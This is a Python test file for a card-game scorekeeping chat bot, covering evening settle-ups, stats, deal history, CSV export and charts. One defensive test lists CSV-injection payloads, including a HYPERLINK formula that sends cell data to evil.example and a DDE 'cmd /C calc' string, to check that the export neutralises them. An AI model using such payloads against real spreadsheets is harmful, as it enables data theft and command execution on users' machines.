"""The scorekeeping screens as pure functions: plural forms, the evening's settle-up, a deal's
details showing only played cards, the CSV export, the chart's picture."""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
import re
import warnings
from typing import Any

import pytest

from bot import callback as cb
from bot.chart import Line, _spread, draw_evening_chart
from bot.render.common import ranks_shown
from bot.render.evening import evening_text
from bot.render.stats import (
    deal_text,
    history_keyboard,
    stats_text,
    top_text,
)
from storage.evenings import BiggestWin, Evening, EveningSummary
from storage.records import POT, DealHistory, DealPlayer, LedgerEntry
from storage.stats import Figures, PlayerStats, Standing
from tables.ledger_csv import ledger_csv
from tests.library import CHAT, CODEC

CARD = re.compile(r"(10|[2-9JQKA])([♠♥♦♣])")
NAMES = {1: "Аня", 2: "Борис", 3: "Вика"}


def _evening(nets: dict[int, int], pot_change: int, deals: int = 12) -> EveningSummary:
    length = 2 * 3600 + 25 * 60 if deals > 1 else 0
    evening = Evening(7, -100, 1_000.0, 1_000.0 + length, deals, None, False, 3 * 3600)
    return EveningSummary(
        evening=evening,
        deals=deals,
        kinds={"stukolka": 12},
        nets=nets,
        running={user: [net] for user, net in nets.items()},
        figures={"stukolka": {"remizes": {2: 3}, "remiz_paid": {2: 27}}},
        biggest_win=BiggestWin(1, 21, 5),
        pot_change=pot_change,
    )


def test_evening_text_settles_the_evening_alone() -> None:
    text = evening_text(CHAT, "ru", _evening({1: 30, 2: -12, 3: -24}, 6), NAMES)
    assert "12 сдач · 2 ч 25 мин" in text
    assert "🏆 Аня: <b>+30</b>" in text
    assert "Борис — 3 ремиза на 27 фишек" in text
    assert "Самый крупный выигрыш за сдачу: +21 — Аня, сдача 5" in text
    assert "Вика → Аня: 24" in text and "Борис → Аня: 6" in text
    # Борис at −12 pays 6: the other 6 lie in the pot, said so, and that it carries
    assert "Ещё 6 фишек — в кону: ремизы и ставки, не отыгранные за вечер (Борис 6)." in text
    assert "кон переходит в следующую сдачу" in text
    # the winners took more than the losers paid: the rest came from an older pot
    text = evening_text(CHAT, "en", _evening({1: 10, 2: 3, 3: -5}, -8), NAMES)
    payments = re.findall(r"(\w+) → (\w+): (\d+)", text.split("Who pays whom")[1])
    assert {payer for payer, _, _ in payments} == {"Вика"}
    assert sum(int(amount) for _, _, amount in payments) == 5
    assert "8 chips of the winnings came from a pot filled before the evening" in text
    assert "1 remiz" not in text and "3 remizes (27 chips)" in text


def test_an_evening_says_a_games_own_pot_apart_from_the_chats() -> None:
    """Chips left in the own pot of a game still going (a Старшина game, or any game's own pot)
    are its, for its next deals: not the chat's pot, nor «ремизы и ставки» in it."""
    summary = dataclasses.replace(_evening({1: 3, 2: -7}, 4), game_pot_change=4)
    text = evening_text(CHAT, "ru", summary, NAMES)
    assert "Ещё 4 фишки — в банке партии, которая ещё идёт" in text, text
    assert "в кону" not in text and "ремизы" not in text, text
    both = dataclasses.replace(_evening({1: 3, 2: -10}, 7), game_pot_change=4)
    text = evening_text(CHAT, "en", both, NAMES)
    assert "The pot grew by 3 chips" in text
    assert "The pot of a game still going holds another 4 chips" in text


def test_evening_title_gives_a_length_only_when_there_is_one() -> None:
    """A one-deal evening has no length: no «0 мин» in its title."""
    assert evening_text(CHAT, "ru", _evening({1: 3, 2: -3}, 0), NAMES).startswith(
        "🌙 <b>Итоги вечера</b> · 12 сдач · 2 ч 25 мин\n"
    )
    assert evening_text(CHAT, "ru", _evening({1: 3, 2: -3}, 0, deals=1), NAMES).startswith(
        "🌙 <b>Итоги вечера</b> · 1 сдача\n"
    )
    assert evening_text(CHAT, "en", _evening({1: 3, 2: -3}, 0, deals=1), NAMES).startswith(
        "🌙 <b>The evening's summary</b> · 1 deal\n"
    )


def test_evening_settles_the_people_and_nobody_pays_a_computer() -> None:
    """As in /balance, nobody pays or is paid by a computer in the evening's «who pays
    whom»; where the computers stand is said apart. «🤖 Компьютер 1» is id −1, which the
    summary once took for the pot's stand-in: its net was overwritten and its payments
    dropped."""
    names = {**NAMES, -1: "🤖 Компьютер 1", -11: "🤖 Новичок 1"}
    # the strong computer won 9, the easy one lost 3, the people lost 6 between them
    text = evening_text(CHAT, "ru", _evening({1: 4, 2: -10, -1: 9, -11: -3}, 0), names)
    settle = text.split("Кто кому платит")[1]
    assert "🤖" not in settle.split("\n🤖")[0], settle  # no payment names a computer
    assert "Борис → Аня: 4" in settle
    assert "🤖 Компьютер 1 +9, 🤖 Новичок 1 −3" in settle
    assert "🏆 🤖 Компьютер 1: <b>+9</b>" in text
    # the people up in sum (the computers lost to them): every debtor pays in full
    text = evening_text(CHAT, "en", _evening({1: 8, 2: -2, -1: -6}, 0), names)
    settle = text.split("Who pays whom")[1]
    assert re.findall(r"(\w+) → (\w+): (\d+)", settle) == [("Борис", "Аня", "2")]
    assert "🤖 Компьютер 1 −6" in settle
    # the people lost only to a computer and the pot: nobody owes another player, and
    # nobody is «при своих» either
    text = evening_text(CHAT, "ru", _evening({1: -3, 2: -6, -11: 3}, 6), names)
    settle = text.split("Кто кому платит")[1]
    assert "Друг другу никто ничего не должен." in settle and "при своих" not in settle
    assert "Все при своих." in evening_text(CHAT, "ru", _evening({1: 0, 2: 0}, 0), names)


@pytest.mark.parametrize(
    ("deals", "ru", "en"),
    [(1, "1 сдача", "1 deal"), (3, "3 сдачи", "3 deals"), (11, "11 сдач", "11 deals")],
)
def test_stats_text_counts_with_the_right_plural(deals: int, ru: str, en: str) -> None:
    figures = Figures(
        net=-5, games=1, deals=deals, tricks=2, best_deal=3, fields={"deals_active": 1}
    )
    stats = PlayerStats(1, "2026-12", {"stukolka": figures}, {"stukolka": figures}, 1)
    assert ru in stats_text(CHAT, "ru", "Аня", stats, private=False)
    assert en in stats_text(CHAT, "en", "Аня", stats, private=False)
    assert "Итог: <b>−5</b>" in stats_text(CHAT, "ru", "Аня", stats, private=False)
    empty = PlayerStats(1, "2026-12", {}, {}, 0)
    assert "Сыгранных сдач пока нет" in stats_text(CHAT, "ru", "Аня", empty, private=True)


def test_stats_shows_each_game_played_with_its_own_figures_only() -> None:
    """A Стуколка player hears nothing of Старшина (its games won), a Старшина player
    nothing of knocking, remizes or pots; one who played both reads each game under its
    title with its own net, and the net over both."""
    own = {"deals_active": 2, "remizes": 1, "remiz_paid": 3}
    shleif = Figures(net=-4, games=1, deals=3, tricks=2, fields=own)
    alone = PlayerStats(1, "2026-12", {"stukolka": shleif}, {"stukolka": shleif}, 1)
    for lang, absent in (("ru", ("Старшин", "партий", "Выиграно")), ("en", ("Starshina", "won"))):
        text = stats_text(CHAT, lang, "Аня", alone, private=False)
        assert not any(word in text for word in absent), text
    text = stats_text(CHAT, "ru", "Аня", alone, private=False)
    assert "🃏 <b>Стуколка</b>\nСыграно: 3 сдачи\nВ игре (стук, втёмную, разрез): 2 из 3" in text
    assert "Ремизы: 1 ремиз на 3 фишки" in text and "Итог: <b>−4</b>" in text
    assert "по всем играм" not in text
    # the game pots a Старшина player won are kept, never shown
    won = {"games_won": 1, "pots_taken": 1, "pot_chips": 8}
    starshina = Figures(net=2, games=1, deals=4, tricks=30, fields=won)
    both = {"stukolka": shleif, "starshina": starshina}
    text = stats_text(CHAT, "ru", "Аня", PlayerStats(1, "2026-12", both, both, 1), private=False)
    stukolka_part, starshina_part = (
        text.split("🃏 <b>Стуколка</b>")[1],
        text.split("🃏 <b>Старшина</b>")[1].split("🃏")[0],
    )
    assert "Сыграно: 1 партия, 4 сдачи\nВыиграно партий: 1 из 1" in starshina_part
    assert "В игре" not in starshina_part and "Итог: <b>+2</b>" in starshina_part
    assert "Взятые коны" not in starshina_part and "8 фиш" not in starshina_part
    assert "Выиграно" not in stukolka_part and "Итог: <b>−4</b>" in stukolka_part
    assert text.endswith("Итог по всем играм: <b>−2</b>")
    text = stats_text(CHAT, "en", "Аня", PlayerStats(1, "2026-12", both, both, 1), private=True)
    assert "Games won: 1 of 1" in text and "Net over all games: <b>−2</b>" in text


def test_the_evenings_biggest_win_is_a_net_never_a_losing_take() -> None:
    """The biggest win names a player who came out of that deal ahead, with his net; an
    evening in which nobody did has no such line."""
    summary = _evening({1: 3, 2: -3}, 0)
    assert "Biggest win in one deal: +21 — Аня, deal 5" in evening_text(CHAT, "en", summary, NAMES)
    none = dataclasses.replace(summary, biggest_win=None)
    assert "выигрыш за сдачу" not in evening_text(CHAT, "ru", none, NAMES)


def test_an_evening_says_no_remizes_only_where_stukolka_was_played() -> None:
    """«Ремизов не было.» is news after Стуколка deals; Старшина has no remizes at all, so a
    Старшина-only evening has no remiz line, and an evening of both still has it."""
    base = _evening({1: 3, 2: -3}, 0)
    for lang, line in (("ru", "Ремизов не было."), ("en", "No remizes.")):
        stukolka = dataclasses.replace(base, figures={})
        assert line in evening_text(CHAT, lang, stukolka, NAMES)
        starshina = dataclasses.replace(base, figures={}, kinds={"starshina": 2})
        assert line not in evening_text(CHAT, lang, starshina, NAMES)
        assert not re.search("емиз|emiz", evening_text(CHAT, lang, starshina, NAMES))
        both = dataclasses.replace(base, figures={}, kinds={"starshina": 2, "stukolka": 3})
        assert line in evening_text(CHAT, lang, both, NAMES)


def test_top_text_puts_medals_on_winners_only() -> None:
    board = [Standing(1, 12, 30), Standing(2, 0, 30), Standing(3, -12, 30)]
    text = top_text(CHAT, "ru", board, [], [], NAMES)
    assert "🥇 Аня: <b>+12</b> · 30 сдач" in text
    assert "2. Борис" in text and "3. Вика" in text
    assert "В этом месяце сдач не было." in text


def _deal(summary: dict[str, Any]) -> DealHistory:
    transfers = (
        LedgerEntry(1, -100, 5, 3, 0, 1, POT, 3, "ante", 0.0),
        LedgerEntry(2, -100, 5, 9, 0, POT, 2, 2, "trick", 0.0),
        LedgerEntry(3, -100, 5, 9, 0, 3, POT, 3, "remiz", 0.0),
    )
    players = (DealPlayer(1, 0, 0, True), DealPlayer(2, 1, 3, True), DealPlayer(3, 2, 0, False))
    return DealHistory(11, 5, -100, "stukolka", 0, 9, 0.0, summary, players, transfers)


def test_deal_text_shows_only_the_cards_the_table_saw() -> None:
    tricks = [[[1, "AH"], [0, "2H"]], [[1, "KH"], [0, "3C"]], [[1, "QS"], [0, "4S"]]]
    summary = {"trump": "H", "trump_card": "7H", "tricks": tricks, "trick_winners": [1, 1, 1]}
    with ranks_shown("ru", "latin"):
        text = deal_text(CHAT, "ru", _deal(summary), NAMES)
    shown = {rank + suit for rank, suit in CARD.findall(text)}
    allowed = {"A♥", "2♥", "K♥", "3♣", "Q♠", "4♠", "7♥"}
    assert shown == allowed
    assert "Взятка 1 → Борис: Борис A♥️ · Аня 2♥️" in text
    # as the chat shows cards: В Д К Т by default in Russian
    with ranks_shown("ru", None):
        text = deal_text(CHAT, "ru", _deal(summary), NAMES)
    assert "Взятка 1 → Борис: Борис Т♥️ · Аня 2♥️" in text and "Д♠️" in text
    assert "Аня: <b>−3</b> (ставка −3)" in text and "Вика: <b>−3</b> (ремиз −3)" in text
    old = deal_text(CHAT, "en", _deal({"trump": "H"}), NAMES)
    assert "were not recorded" in old


def test_history_buttons_fit_in_callback_data() -> None:
    deals = [_deal({})] * 6
    rows = history_keyboard("ru", deals, 2**62, 2**62, True)
    for row in rows:
        for _, data in row:
            assert len(data.encode()) <= 64
            assert isinstance(CODEC.decode(data), cb.History | cb.DealInfo)


def test_export_is_csv_with_names_and_pots() -> None:
    rows = [
        (1, 1_764_600_000.0, 5, "stukolka", 0, "user", 1, 'Аня, "А"', "pot", None, None, 3, "ante"),
        (2, 1_764_600_060.0, 5, "stukolka", 0, "pot", None, None, "user", 2, "Борис", 3, "trick"),
    ]
    data = ledger_csv(rows, "ru")
    assert data.startswith("\ufeff".encode())
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert parsed[0][:3] == ["entry_id", "time_utc", "game_id"]
    assert parsed[1][5:] == ['Аня, "А"', "1", "pot", "", "3", "ante"]
    assert parsed[2][4] == "1"  # deals are numbered from 1, as people count them


FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)


def test_export_neutralises_names_a_spreadsheet_would_run_as_formulas() -> None:
    """A name is what its owner typed: one that begins as a formula (OWASP's CSV injection)
    is written quoted, with a single quote before it, so a spreadsheet shows it as text; a
    number (a computer's id of −1, an amount) stays a bare number."""
    rows = [
        (i, 1_764_600_000.0 + i, 5, "stukolka", 0, "user", 10 + i, evil, "user", -1, "x", 3, "ante")
        for i, evil in enumerate(FORMULA_NAMES)
    ]
    text = ledger_csv(rows, "en").decode("utf-8-sig")
    lines = text.split("\r\n")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    for i, evil in enumerate(FORMULA_NAMES):
        row = parsed[i + 1]
        assert row[5] == "'" + evil
        assert row[6:10] == [str(10 + i), "🤖 Computer 1", "-1", "3"]
    for line in lines[1:-1]:
        fields = line.split(",")
        # every text cell is quoted; the numbers (ids, the computer's -1, the amount) are not
        assert fields[0].isdigit() and fields[2] == "5" and fields[4] == "1"
        assert fields[-2:] == ["3", '"ante"']
        assert ",-1," in line and line.count("\"'") == 1
    for cell in (c for row in parsed for c in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-1", cell


def test_export_names_the_computers_in_the_chats_language() -> None:
    """The players table stores a computer's Russian name; the CSV of an English chat shows
    its English one, as /balance and /top do. A person's name is his own in both."""
    rows = [
        (
            1,
            1_764_600_000.0,
            5,
            "stukolka",
            0,
            "user",
            -1,
            "🤖 Компьютер 1",
            "pot",
            None,
            None,
            3,
            "ante",
        ),
        (
            2,
            1_764_600_060.0,
            5,
            "stukolka",
            0,
            "user",
            -11,
            "🤖 Новичок 1",
            "user",
            2,
            "Борис",
            3,
            "remiz",
        ),
    ]
    for lang, strong, easy in (
        ("ru", "🤖 Компьютер 1", "🤖 Новичок 1"),
        ("en", "🤖 Computer 1", "🤖 Rookie 1"),
    ):
        parsed = list(csv.reader(io.StringIO(ledger_csv(rows, lang).decode("utf-8-sig"))))
        assert [parsed[1][5], parsed[1][6]] == [strong, "-1"]
        assert [parsed[2][5], parsed[2][7]] == [easy, "Борис"]


def test_chart_is_a_phone_sized_png_and_end_labels_do_not_overlap() -> None:
    png = draw_evening_chart(
        "Вечер",
        [Line("Аня", [3, 5]), Line("Борис", [-3, -5])],
        x_label="Сдача",
        y_label="Фишки",
        net_label="{name}: {net}",
    )
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    assert (int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")) == (1200, 800)
    heights = _spread([5, 5, 4, -3], 20)
    ordered = sorted(heights)
    assert all(b - a >= 0.9 for a, b in itertools.pairwise(ordered))


def test_chart_draws_no_empty_boxes_for_emoji_in_names() -> None:
    """The chart's font has no emoji: a computer's robot mark (or an emoji in a person's
    name) is left out of the legend rather than drawn as an empty box."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # matplotlib warns "Glyph … missing from font(s)"
        png = draw_evening_chart(
            "Вечер",
            [Line("🤖 Новичок 1", [3, 5]), Line("Борис 🎲", [-3, -5]), Line("🃏", [0, 0])],
            x_label="Сдача",
            y_label="Фишки",
            net_label="{name}: {net}",
        )
    assert png.startswith(b"\x89PNG\r\n\x1a\n")


def test_an_evening_summed_mid_deal_names_the_chips_it_leaves_to_the_next() -> None:
    summary = dataclasses.replace(_evening({1: 3, 2: -3}, 0), in_play={2: -3})
    text = evening_text(CHAT, "en", summary, NAMES)
    assert "⏳ A deal is still in play: its antes are in /balance already" in text
    assert "— Борис −3. They count in the next evening's." in text
    assert "⏳" not in evening_text(CHAT, "ru", _evening({1: 3, 2: -3}, 0), NAMES)
